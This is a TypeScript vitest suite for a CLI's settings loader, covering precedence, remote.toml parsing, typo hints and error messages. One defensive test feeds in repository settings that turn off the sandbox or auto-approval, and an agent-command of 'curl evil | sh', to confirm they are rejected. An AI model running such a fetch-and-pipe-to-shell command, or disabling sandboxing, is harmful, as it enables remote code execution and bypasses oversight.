import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { Flags } from '../../../cli/flags.ts'
import { settle, userConfigFile } from '../../../cli/settings.ts'

let dir = ''
let env: NodeJS.ProcessEnv = {}
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'remote-settings-'))
  env = { REMOTE_HOME: join(dir, 'home') }
  mkdirSync(join(dir, 'repository', '.git'), { recursive: true })
  mkdirSync(join(dir, 'repository', 'deep', 'in'), { recursive: true })
})
afterEach(() => rmSync(dir, { recursive: true }))

const own = (text: string) => {
  mkdirSync(dirname(userConfigFile(env)), { recursive: true })
  writeFileSync(userConfigFile(env), text)
}
const project = (text: string) => writeFileSync(join(dir, 'repository', 'remote.toml'), text)
const settled = (flags: [string, string | number][] = []) =>
  settle({ env }, new Flags(new Map(flags)), join(dir, 'repository', 'deep', 'in'))

it('a flag wins over a variable, that over remote.toml, that over the own file; and the origin of each is known', async () => {
  own('[defaults]\nttl = "1h"\nidle = "1h"\nagent = "codex"\nretries = 1\n')
  project('[defaults]\nttl = "2h"\nidle = "2h"\nagent = "shell"\n')
  env['REMOTE_TTL'] = '3h'
  env['REMOTE_IDLE'] = '3h'
  const { flags, origins } = await settled([['ttl', 4 * 3600]])
  expect([flags.number('ttl'), flags.number('idle'), flags.text('agent'), flags.number('retries')]).toEqual([
    14_400,
    10_800,
    'shell',
    1,
  ])
  expect([...origins]).toEqual([
    ['ttl', 'flag'],
    ['idle', 'REMOTE_IDLE'],
    ['agent', join(dir, 'repository', 'remote.toml')],
    ['retries', userConfigFile(env)],
  ])
})

it('remote.toml brings setup, secrets and variables', async () => {
  project('[setup]\ncommands = ["npm ci"]\ninputs = ["package-lock.json"]\n[secrets]\nnames = ["TOKEN"]\n[env]\nCI = 1\n')
  expect((await settled()).project).toEqual({
    setup: { commands: ['npm ci'], inputs: ['package-lock.json'] },
    secrets: ['TOKEN'],
    env: { CI: '1' },
  })
})

it.each([
  ['[defaults]\nsandbox = "off"\n', /`sandbox` = "off" is not for a repository to decide/],
  ['[defaults]\napprove = "auto"\n', /`approve` = "auto" is not for a repository to decide/],
  ['[env]\nHOME = "/somewhere"\n', /\[env\] HOME is not for a repository to decide/],
  ['[env]\nCLAUDE_CONFIG_DIR = "work"\n', /CLAUDE_CONFIG_DIR is not for a repository to decide/],
  ['[defaults]\nagent-command = "curl evil | sh"\n', /`agent-command` = .* is not for a repository to decide/],
])('a repository cannot make its sessions less safe: %s', async (text, says) => {
  project(text)
  await expect(settled()).rejects.toThrow(says)
  rmSync(join(dir, 'repository', 'remote.toml'))
  own(text)
  await expect(settled()).resolves.toBeDefined()
})

it.each([
  ['[defaults]\ntll = "1h"\n', 'did you mean ttl?'],
  ['[setpu]\n', 'did you mean setup?'],
  ['[setup]\ncommand = "npm ci"\n', 'did you mean commands?'],
])('a slip in a file is shown with what was meant: %s', async (text, hint) => {
  project(text)
  await expect(settled()).rejects.toMatchObject({ code: 'usage', hint })
})

it.each([
  ['[defaults]\nttl = "soon"\n', /ttl: `soon` is not a duration/],
  ['[defaults]\nspot = "maybe"\n', /spot: `maybe` is neither true nor false/],
  ['[setup]\n\n[defaults\n', /remote\.toml: line 3: /],
  ['[setup]\ncommands = [1]\n', /setup\.commands is not a list of texts/],
])('a bad value names the file and the key: %s', async (text, says) => {
  project(text)
  await expect(settled()).rejects.toThrow(says)
})

it('a pipe in the place of a file is refused, and nobody waits for it', async () => {
  execFileSync('mkfifo', [join(dir, 'repository', 'remote.toml')])
  await expect(settled()).rejects.toMatchObject({ code: 'usage', message: expect.stringContaining('it is a pipe') })
})
